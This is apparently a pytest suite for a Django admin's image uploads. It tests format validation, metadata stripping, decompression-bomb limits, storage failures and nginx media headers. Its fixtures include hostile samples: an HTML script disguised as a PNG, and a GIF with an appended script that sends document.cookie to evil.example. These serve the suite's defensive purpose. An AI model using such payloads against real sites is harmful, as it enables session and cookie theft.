import errno
import os
import re
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import ExifTags, Image, ImageCms, ImageSequence, PngImagePlugin

from press.models import PressRelease
from resources.models import Resource
from tests.factories import press_release_admin_data, resource_admin_data

pytestmark = pytest.mark.django_db

ADMIN_FORMS = {
    "press release": (
        PressRelease,
        "admin:press_pressrelease_add",
        press_release_admin_data,
    ),
    "resource": (Resource, "admin:resources_resource_add", resource_admin_data),
}


@pytest.fixture(params=ADMIN_FORMS, ids=str)
def admin_form(request):
    return ADMIN_FORMS[request.param]


def image_bytes(fmt, *, size=(64, 48), mode="RGB"):
    buffer = BytesIO()
    Image.new(mode, size, color=1 if mode == "1" else (200, 40, 40)).save(buffer, fmt)
    return buffer.getvalue()


def upload(name, content, content_type="image/png"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files():
    media = Path(settings.MEDIA_ROOT)
    return (
        [path for path in media.rglob("*") if path.is_file()] if media.exists() else []
    )


def submit(client, admin_form, image, **fields):
    model, url_name, form_data = admin_form
    data = form_data(image=image, image_alt="A red rectangle", **fields)
    return client.post(reverse(url_name), data)


def image_errors(response):
    return response.context["adminform"].form.errors.get("image", [])


@pytest.mark.parametrize(
    ("name", "fmt", "content_type"),
    [
        ("photo.png", "PNG", "image/png"),
        ("photo.jpg", "JPEG", "image/jpeg"),
        ("photo.gif", "GIF", "image/gif"),
        ("photo.webp", "WEBP", "image/webp"),
    ],
)
def test_a_valid_image_is_saved(staff_client, admin_form, name, fmt, content_type):
    model = admin_form[0]

    response = submit(
        staff_client, admin_form, upload(name, image_bytes(fmt), content_type)
    )

    assert response.status_code == 302
    obj = model.objects.get()
    assert obj.image_alt == "A red rectangle"
    with Image.open(obj.image.path) as saved:
        assert saved.format == fmt
        assert saved.size == (64, 48)
    assert (obj.image_width, obj.image_height) == (64, 48)
    renditions = Path(settings.MEDIA_ROOT) / "renditions"
    others = [path for path in stored_files() if path != Path(obj.image.path)]
    # One width (the image is narrower than the narrowest), WebP and JPEG.
    assert sorted(path.suffix for path in others) == [".jpg", ".webp"]
    assert all(path.is_relative_to(renditions) for path in others)


def assert_refused(response, model, message):
    assert response.status_code == 200
    assert any(message in error for error in image_errors(response))
    assert message in response.content.decode()
    assert not model.objects.exists()
    assert stored_files() == []


def test_a_text_file_named_png_is_refused(staff_client, admin_form):
    text = upload("notes.png", b"This is not an image at all.\n" * 20)

    response = submit(staff_client, admin_form, text)

    assert_refused(response, admin_form[0], "Upload a valid image")


def test_html_with_script_named_png_is_refused(staff_client, admin_form):
    page = upload("trap.png", b"<html><script>alert(1)</script></html>")

    response = submit(staff_client, admin_form, page)

    assert_refused(response, admin_form[0], "Upload a valid image")


@pytest.mark.parametrize(
    ("name", "fmt", "content_type"),
    [("cut.jpg", "JPEG", "image/jpeg"), ("cut.png", "PNG", "image/png")],
)
def test_a_truncated_image_is_refused(
    staff_client, admin_form, name, fmt, content_type
):
    whole = image_bytes(fmt, size=(600, 400))
    truncated = upload(name, whole[: len(whole) * 2 // 3], content_type)

    response = submit(staff_client, admin_form, truncated)

    assert response.status_code == 200
    assert image_errors(response)
    assert not admin_form[0].objects.exists()
    assert stored_files() == []


def test_a_decompression_bomb_is_refused_with_its_size(staff_client, admin_form):
    # 48 megapixels of one-bit pixels compress to a few kilobytes.
    bomb = upload("bomb.png", image_bytes("PNG", size=(8000, 6000), mode="1"))
    assert bomb.size < 100_000
    assert settings.MAX_IMAGE_PIXELS < 8000 * 6000

    response = submit(staff_client, admin_form, bomb)

    assert_refused(response, admin_form[0], "8000 × 6000 pixels, too large")


def test_a_bomb_beyond_pillows_own_limit_is_refused(staff_client, admin_form):
    bomb = upload("bomb.png", image_bytes("PNG", size=(20000, 10000), mode="1"))

    response = submit(staff_client, admin_form, bomb)

    assert response.status_code == 200
    assert image_errors(response)
    assert not admin_form[0].objects.exists()
    assert stored_files() == []


def test_an_image_over_the_upload_size_limit_is_refused(
    staff_client, admin_form, settings
):
    settings.MAX_UPLOAD_SIZE = 1024
    # Noise does not compress, so this small image is still over the limit.
    buffer = BytesIO()
    Image.effect_noise((64, 64), 100).save(buffer, "PNG")
    big = upload("big.png", buffer.getvalue())
    assert big.size > 1024

    response = submit(staff_client, admin_form, big)

    assert_refused(response, admin_form[0], "the limit is 1.0\xa0KB")


def test_an_image_without_alt_text_is_refused_on_the_alt_field(
    staff_client, admin_form
):
    model, url_name, form_data = admin_form
    data = form_data(image=upload("photo.png", image_bytes("PNG")), image_alt="  ")

    response = staff_client.post(reverse(url_name), data)

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert errors["image_alt"] == ["Alt text is required when an image is set."]
    assert "image" not in errors
    assert not model.objects.exists()
    assert stored_files() == []


def test_without_an_image_no_alt_text_is_needed(staff_client, admin_form):
    model, url_name, form_data = admin_form

    response = staff_client.post(reverse(url_name), form_data())

    assert response.status_code == 302
    assert model.objects.get().image == ""


def test_editing_an_item_keeps_its_image_without_uploading_it_again(
    staff_client, admin_form
):
    model, url_name, form_data = admin_form
    submit(staff_client, admin_form, upload("photo.png", image_bytes("PNG")))
    obj = model.objects.get()
    change_url = reverse(url_name.replace("_add", "_change"), args=[obj.pk])
    data = form_data(
        title="A new title", slug=obj.slug, image_alt="A red rectangle, renamed"
    )

    response = staff_client.post(change_url, data)

    assert response.status_code == 302
    obj.refresh_from_db()
    assert obj.title == "A new title"
    assert obj.image_alt == "A red rectangle, renamed"
    assert Path(obj.image.path).is_file()


def test_editing_an_item_whose_stored_image_went_missing_still_saves(
    staff_client, admin_form
):
    model, url_name, form_data = admin_form
    submit(staff_client, admin_form, upload("photo.png", image_bytes("PNG")))
    obj = model.objects.get()
    Path(obj.image.path).unlink()
    change_url = reverse(url_name.replace("_add", "_change"), args=[obj.pk])
    data = form_data(title="Still editable", slug=obj.slug, image_alt=obj.image_alt)

    response = staff_client.post(change_url, data)

    assert response.status_code == 302
    assert model.objects.get().title == "Still editable"


# Uploads are stored re-encoded from their pixels.

CAMERA_MAKE = "Ubiquitous Optics"
CAMERA_MODEL = "Spyglass 9000"


def photo_with_metadata(*, size=(120, 80), orientation=None):
    """A real JPEG with GPS coordinates, camera make and model, XMP, a comment."""
    image = Image.new("RGB", size, (30, 120, 200))
    image.paste((250, 250, 0), (0, 0, size[0] // 2, size[1] // 4))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = CAMERA_MAKE
    exif[ExifTags.Base.Model] = CAMERA_MODEL
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (40.0, 45.0, 3.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (73.0, 59.0, 11.0)
    buffer = BytesIO()
    image.save(
        buffer,
        "JPEG",
        exif=exif,
        xmp=b"<x:xmpmeta><dc:creator>Field office 7</dc:creator></x:xmpmeta>",
        comment=b"shot at the safe house",
    )
    return buffer.getvalue()


SECRETS = [
    CAMERA_MAKE.encode(),
    CAMERA_MODEL.encode(),
    b"Field office 7",
    b"safe house",
    b"Exif",
]


def assert_no_metadata(path):
    content = Path(path).read_bytes()
    for secret in SECRETS:
        assert secret not in content
    with Image.open(path) as stored:
        assert not stored.getexif()
        assert stored.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert not {"exif", "xmp", "comment", "XML:com.adobe.xmp"} & set(stored.info)


def test_the_test_photo_really_carries_gps_and_camera():
    with Image.open(BytesIO(photo_with_metadata())) as photo:
        exif = photo.getexif()
        assert exif[ExifTags.Base.Make] == CAMERA_MAKE
        assert exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitudeRef] == "N"
        assert b"Field office 7" in photo.info["xmp"]


def test_gps_camera_and_xmp_are_gone_from_the_stored_photo(staff_client, admin_form):
    model = admin_form[0]
    photo = upload("holiday.jpg", photo_with_metadata(), "image/jpeg")

    response = submit(staff_client, admin_form, photo)

    assert response.status_code == 302
    obj = model.objects.get()
    assert_no_metadata(obj.image.path)
    with Image.open(obj.image.path) as stored:
        assert stored.format == "JPEG"
        assert stored.size == (120, 80)
        # Still the same picture: the yellow corner is where it was.
        assert stored.getpixel((5, 5))[0] > 200
        assert stored.getpixel((100, 70))[2] > 150
    for path in stored_files():
        assert_no_metadata(path)


def test_a_sideways_photo_is_stored_upright(staff_client, admin_form):
    model = admin_form[0]
    # Orientation 6: the camera was turned; viewers rotate it 90° clockwise.
    photo = upload("turned.jpg", photo_with_metadata(orientation=6), "image/jpeg")

    response = submit(staff_client, admin_form, photo)

    assert response.status_code == 302
    obj = model.objects.get()
    with Image.open(obj.image.path) as stored:
        assert stored.size == (80, 120)
        assert ExifTags.Base.Orientation not in stored.getexif()
        # The yellow band, top-left as taken, is now along the right edge.
        assert stored.getpixel((75, 5))[0] > 200
        assert stored.getpixel((5, 5))[0] < 100
    assert (obj.image_width, obj.image_height) == (80, 120)


def test_a_gif_with_a_script_after_its_end_is_stored_clean(staff_client, admin_form):
    model = admin_form[0]
    script = (
        b"<script>document.location='https://evil.example/'+document.cookie</script>"
    )
    trap = image_bytes("GIF") + script
    assert trap.endswith(script)

    response = submit(staff_client, admin_form, upload("cat.gif", trap, "image/gif"))

    assert response.status_code == 302
    stored = Path(model.objects.get().image.path).read_bytes()
    assert b"<script" not in stored
    # The GIF trailer is the last byte: nothing follows the image.
    assert stored.endswith(b";")
    with Image.open(BytesIO(stored)) as gif:
        assert gif.format == "GIF"
        assert gif.size == (64, 48)


def test_png_text_chunks_and_an_srgb_profile_are_dropped(staff_client, admin_form):
    model = admin_form[0]
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Field office 7")
    info.add_itxt("Comment", "shot at the safe house")
    buffer = BytesIO()
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    Image.new("RGBA", (40, 30), (10, 200, 10, 128)).save(
        buffer, "PNG", pnginfo=info, icc_profile=srgb
    )

    response = submit(staff_client, admin_form, upload("chart.png", buffer.getvalue()))

    assert response.status_code == 302
    path = model.objects.get().image.path
    assert_no_metadata(path)
    with Image.open(path) as stored:
        assert "icc_profile" not in stored.info
        assert stored.mode == "RGBA"
        assert stored.getpixel((3, 3)) == (10, 200, 10, 128)


def test_an_animated_gif_keeps_its_frames(staff_client, admin_form):
    model = admin_form[0]
    colours = [(255, 0, 0), (0, 255, 0), (0, 0, 255)]
    frames = [Image.new("RGB", (20, 20), colour) for colour in colours]
    buffer = BytesIO()
    frames[0].save(
        buffer, "GIF", save_all=True, append_images=frames[1:], duration=200, loop=0
    )

    response = submit(staff_client, admin_form, upload("blink.gif", buffer.getvalue()))

    assert response.status_code == 302
    with Image.open(model.objects.get().image.path) as stored:
        assert stored.n_frames == 3
        seen = []
        for frame in ImageSequence.Iterator(stored):
            seen.append(frame.convert("RGB").getpixel((10, 10)))
            assert frame.info.get("duration") == 200
        assert seen == colours


# A storage that fails while saving leaves nothing behind.


class FullDiskStorage(FileSystemStorage):
    """
    Files as on disk, but the disk fills up: the first ``room`` files are
    written, and the next stops halfway with ENOSPC, as a full disk does.
    """

    room = 0
    written = 0

    def _save(self, name, content):
        cls = type(self)
        if cls.written < cls.room:
            cls.written += 1
            return super()._save(name, content)
        path = Path(self.path(name))
        path.parent.mkdir(parents=True, exist_ok=True)
        data = content.read()
        path.write_bytes(data[: len(data) // 2])
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))


@pytest.fixture
def full_disk(settings):
    FullDiskStorage.written = 0
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "tests.test_images.FullDiskStorage"},
    }
    return FullDiskStorage


# Room for none of it; for the upload and one rendition; for all but the last.
@pytest.mark.parametrize("room", [0, 1, 2])
def test_a_full_disk_is_a_form_error_and_leaves_nothing(
    staff_client, admin_form, full_disk, room
):
    full_disk.room = room
    model = admin_form[0]

    response = submit(
        staff_client,
        admin_form,
        upload("photo.jpg", photo_with_metadata(), "image/jpeg"),
    )

    assert response.status_code == 200
    errors = image_errors(response)
    assert errors == [
        "The image could not be stored: the storage is full. Nothing was saved; "
        "please try again later or tell the site's administrators."
    ]
    assert "the storage is full" in response.content.decode()
    assert full_disk.written == room
    assert not model.objects.exists()
    assert stored_files() == []


def test_a_storage_error_on_a_change_keeps_the_item_as_it_was(
    staff_client, admin_form, full_disk
):
    model, url_name, form_data = admin_form
    full_disk.room = 100
    submit(staff_client, admin_form, upload("photo.png", image_bytes("PNG")))
    obj = model.objects.get()
    before = sorted(stored_files())
    full_disk.room = full_disk.written
    change_url = reverse(url_name.replace("_add", "_change"), args=[obj.pk])
    data = form_data(
        title="A changed title",
        slug=obj.slug,
        image=upload("new.png", image_bytes("PNG", size=(30, 30))),
        image_alt="Another picture",
    )

    response = staff_client.post(change_url, data)

    assert response.status_code == 200
    assert "the storage is full" in " ".join(image_errors(response))
    obj.refresh_from_db()
    assert obj.title != "A changed title"
    assert obj.image_alt == "A red rectangle"
    assert sorted(stored_files()) == before


# nginx serves /media/ as inert files.


def media_location():
    config = (Path(settings.BASE_DIR) / "deploy" / "nginx.conf").read_text()
    block = re.search(r"location /media/ \{(.*?)\n    \}", config, re.S)
    assert block, "deploy/nginx.conf has no /media/ location"
    return block.group(1)


def test_nginx_forbids_sniffing_and_active_content_for_media():
    block = media_location()
    assert 'add_header X-Content-Type-Options "nosniff" always;' in block
    policy = re.search(r'add_header Content-Security-Policy "([^"]+)" always;', block)
    assert policy
    directives = {part.strip() for part in policy.group(1).split(";")}
    assert {"default-src 'none'", "img-src 'self'", "sandbox"} <= directives


def test_an_animation_too_large_to_re_encode_is_refused(
    staff_client, admin_form, settings
):
    settings.MAX_IMAGE_PIXELS = 100 * 100 * 10
    frames = [Image.new("RGB", (100, 100), (n * 20, 0, 0)) for n in range(12)]
    buffer = BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:])

    response = submit(staff_client, admin_form, upload("long.gif", buffer.getvalue()))

    assert_refused(response, admin_form[0], "12 frames of 100 × 100 pixels")


def test_a_colour_profile_other_than_srgb_is_kept(staff_client, admin_form):
    model = admin_form[0]
    wide_gamut = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()
    buffer = BytesIO()
    Image.new("RGB", (40, 30), (200, 10, 10)).save(
        buffer, "JPEG", icc_profile=wide_gamut
    )

    response = submit(
        staff_client, admin_form, upload("wide.jpg", buffer.getvalue(), "image/jpeg")
    )

    assert response.status_code == 302
    with Image.open(model.objects.get().image.path) as stored:
        assert stored.info["icc_profile"] == wide_gamut


def test_an_image_saved_in_code_is_re_encoded_too():
    resource = Resource.objects.create(
        title="Iraq", slug="iraq", kind=Resource.Kind.COUNTRY, image_alt="A map"
    )

    resource.image.save("map.jpg", ContentFile(photo_with_metadata()))

    resource.refresh_from_db()
    assert_no_metadata(resource.image.path)
    assert (resource.image_width, resource.image_height) == (120, 80)
    assert resource.image.picture.width == 120
    assert len(stored_files()) == 3  # the image, and one width as WebP and JPEG
